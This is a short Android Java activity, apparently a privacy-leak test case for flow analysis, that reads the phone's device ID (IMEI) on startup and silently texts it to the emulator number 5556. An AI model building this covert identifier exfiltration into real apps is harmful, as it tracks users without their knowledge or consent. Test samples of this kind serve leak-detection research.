package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** In the application object, for another screen. */
public class Whole extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        ((App) getApplication()).id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("5556", null, ((App) getApplicationContext()).id, null, null);
    }
}
